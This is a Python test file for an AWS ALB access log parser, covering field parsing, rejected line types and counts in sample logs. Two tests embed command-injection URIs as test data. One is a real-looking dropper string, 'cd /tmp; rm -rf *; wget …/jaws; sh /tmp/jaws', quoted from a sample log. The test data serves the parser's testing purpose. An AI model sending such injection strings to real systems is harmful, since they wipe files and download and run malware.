"""ALB access log parser: field conversion, tolerated variants, rejected lines, sample files."""

import gzip
from datetime import UTC, datetime
from pathlib import Path

import pytest

from logparsers.alb import MIN_FIELDS, parse_alb_line, parse_alb_lines
from logparsers.common import ParseStats
from logparsers.results import MalformedLineError

SAMPLES = Path(__file__).resolve().parents[2] / ".." / "shared" / "samples" / "alb"

HTTPS_LINE = (
    "https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 "
    "192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "
    '"GET https://www.example.com:443/search?q=a%20b HTTP/1.1" "curl/7.46.0" '
    "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 "
    "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "
    '"Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" '
    '"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" '
    '1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" '
    '"Acceptable" "-" TID_1234'
)


def _with(line: str, old: str, new: str) -> str:
    assert old in line
    return line.replace(old, new, 1)


def test_https_line_fields():
    record = parse_alb_line(HTTPS_LINE, 7)

    assert record.line_number == 7
    assert record.type == "https"
    assert record.time == datetime(2018, 7, 2, 22, 23, 0, 186641, tzinfo=UTC)
    assert (record.client_ip, record.client_port) == ("192.168.131.39", 2817)
    assert (record.target_ip, record.target_port) == ("10.0.0.1", 80)
    assert record.request_processing_time == pytest.approx(0.086)
    assert (record.elb_status_code, record.target_status_code) == (200, 200)
    assert (record.received_bytes, record.sent_bytes) == (0, 57)
    assert record.method == "GET"
    assert record.url == "https://www.example.com:443/search?q=a%20b"
    assert record.http_version == "HTTP/1.1"
    assert record.user_agent == "curl/7.46.0"
    assert record.ssl_protocol == "TLSv1.2"
    assert record.domain_name == "www.example.com"
    assert record.matched_rule_priority == 1
    assert record.actions_executed == ("authenticate", "forward")
    assert record.redirect_url is None
    assert record.classification == "Acceptable"
    assert record.conn_trace_id == "TID_1234"
    assert record.extra_fields == ()


@pytest.mark.parametrize("request_type", ["http", "https", "h2", "grpcs", "ws", "wss"])
def test_every_request_type_parses(request_type):
    record = parse_alb_line(_with(HTTPS_LINE, "https 2018", f"{request_type} 2018"))

    assert record.type == request_type


def test_failed_request_has_no_times_or_target():
    line = _with(HTTPS_LINE, "10.0.0.1:80 0.086 0.048 0.037 200 200", "- -1 -1 -1 504 -")

    record = parse_alb_line(line)

    assert (record.target_ip, record.target_port) == (None, None)
    assert record.request_processing_time is None
    assert record.target_processing_time is None
    assert record.response_processing_time is None
    assert (record.elb_status_code, record.target_status_code) == (504, None)


def test_fields_appended_by_later_formats_are_kept():
    record = parse_alb_line(HTTPS_LINE + ' "new-field" 42')

    assert record.conn_trace_id == "TID_1234"
    assert record.extra_fields == ("new-field", "42")


def test_oldest_format_stops_after_trace_id():
    # The quoted request "GET url HTTP/1.1" contains two of the spaces.
    oldest = " ".join(HTTPS_LINE.split(" ")[: MIN_FIELDS + 2])

    record = parse_alb_line(oldest)

    assert record.trace_id == "Root=1-58337281-1d84f3d73c47ec4e58577259"
    assert record.domain_name is None
    assert record.actions_executed == ()


def test_escaped_quote_in_user_agent_is_unescaped():
    record = parse_alb_line(_with(HTTPS_LINE, '"curl/7.46.0"', r'"Mozilla \"quoted\" agent"'))

    assert record.user_agent == 'Mozilla "quoted" agent'


def test_space_in_uri_stays_in_url():
    line = _with(
        HTTPS_LINE, "/search?q=a%20b HTTP/1.1", "/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"
    )

    record = parse_alb_line(line)

    assert record.url == "https://www.example.com:443/shell?cd+/tmp;wget+ a.example/x"
    assert record.http_version == "HTTP/1.1"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ('{"action": "BLOCK"}', "JSON record"),
        (
            "tls 2.0 2018-12-20T02:59:40 net/my-nlb/c6e77e28c25b2234 g3d4b5e8bb8464cd",
            "Network Load Balancer",
        ),
        ("2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2", "connection log"),
        (_with(HTTPS_LINE, "https 2018", "ftp 2018"), "unknown request type 'ftp'"),
        (
            "http 2018-07-02T22:23:00Z app/lb/1 1.2.3.4:5 - 0 0 0 200",
            "expected at least 18 fields, found 9",
        ),
        (_with(HTTPS_LINE, '"curl/7.46.0" ', '"curl/7.46.0"x '), "invalid quoting"),
        (_with(HTTPS_LINE, "2018-07-02T22:23:00.186641Z", "yesterday"), "invalid time 'yesterday'"),
        (_with(HTTPS_LINE, "192.168.131.39:2817", "192.168.131.39"), "invalid client:port"),
        (_with(HTTPS_LINE, "0.086", "fast"), "invalid processing time 'fast'"),
        (_with(HTTPS_LINE, " 200 200 ", " OK 200 "), "invalid elb_status_code 'OK'"),
    ],
)
def test_rejected_line_reason(line, reason):
    with pytest.raises(MalformedLineError, match=reason):
        parse_alb_line(line)


def test_batches_keep_line_numbers_and_malformed_lines():
    lines = [HTTPS_LINE, "garbage", "", HTTPS_LINE, HTTPS_LINE]
    stats = ParseStats()

    batches = list(
        parse_alb_lines(lines, batch_size=2, source="s3://bucket/key.log.gz", stats=stats)
    )

    assert [len(batch) for batch in batches] == [2, 2]
    assert [record.line_number for batch in batches for record in batch.records] == [1, 4, 5]
    malformed = batches[0].malformed[0]
    assert (malformed.source, malformed.line) == ("s3://bucket/key.log.gz", 2)
    assert sum(batch.blank_lines for batch in batches) == 1
    assert (stats.records, stats.malformed) == (3, 1)


def test_gzip_bytes_lines_are_decoded(tmp_path):
    path = tmp_path / "alb.log.gz"
    path.write_bytes(gzip.compress((HTTPS_LINE + "\n" + HTTPS_LINE + "\n").encode()))

    with gzip.open(path) as handle:
        batches = list(parse_alb_lines(handle))

    assert [record.line_number for record in batches[0].records] == [1, 2]


# Counts made by reading each file. Records are the lines that start with an ALB request type
# and quote their fields correctly, and every other non-blank line is malformed.
# - beats-alb-460-504-200.log: 10 `http` lines (1 x 460, 6 x 504, 3 x 200), then a blank line.
# - beats-alb-protocols-errors-malformed.log: 9 lines and a blank one; line 5 (wss) has `"-"1`,
#   a quoted field with no space after it.
# - elastic-elb-mixed-alb-nlb-connlog.log: lines 1, 2 and 10 are ALB lines; lines 3-6 start with
#   `tls 2.0` (NLB) and lines 7-9 with a timestamp (ALB connection log).
# - elastic-waf-sqli-xss-labelled.ndjson: 4 AWS WAF JSON records, none an ALB line.
SAMPLE_COUNTS = {
    "beats-alb-460-504-200.log": (list(range(1, 11)), []),
    "beats-alb-protocols-errors-malformed.log": ([1, 2, 3, 4, 6, 7, 8, 9], [5]),
    "elastic-elb-mixed-alb-nlb-connlog.log": ([1, 2, 10], [3, 4, 5, 6, 7, 8, 9]),
    "elastic-waf-sqli-xss-labelled.ndjson": ([], [1, 2, 3, 4]),
}


def test_every_alb_sample_is_counted():
    assert sorted(path.name for path in SAMPLES.iterdir()) == sorted(SAMPLE_COUNTS)


@pytest.mark.parametrize(("name", "expected"), SAMPLE_COUNTS.items())
def test_alb_sample_counts(name, expected):
    records_expected, malformed_expected = expected

    with open(SAMPLES / name, encoding="utf-8") as handle:
        batches = list(parse_alb_lines(handle, source=name))

    assert [r.line_number for batch in batches for r in batch.records] == records_expected
    assert [m.line for batch in batches for m in batch.malformed] == malformed_expected


@pytest.mark.parametrize(
    ("line", "reason"),
    [(3, "Network Load Balancer"), (7, "connection log"), (9, "connection log")],
)
def test_mixed_sample_names_other_log_kinds(line, reason):
    with open(SAMPLES / "elastic-elb-mixed-alb-nlb-connlog.log", encoding="utf-8") as handle:
        malformed = {m.line: m.reason for batch in parse_alb_lines(handle) for m in batch.malformed}

    assert reason in malformed[line]


def test_sample_attack_line_fields():
    with open(SAMPLES / "elastic-elb-mixed-alb-nlb-connlog.log", encoding="utf-8") as handle:
        records = {r.line_number: r for batch in parse_alb_lines(handle) for r in batch.records}

    attack = records[2]
    assert attack.client_ip == "67.43.156.20"
    assert (
        attack.url
        == "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    )
    assert attack.elb_status_code == 301
    assert attack.target_ip is None
    assert attack.classification_reason == "SpaceInUri"
    assert records[10].method is None
    assert records[10].conn_trace_id == "TID_00000000000000000000000000000000"
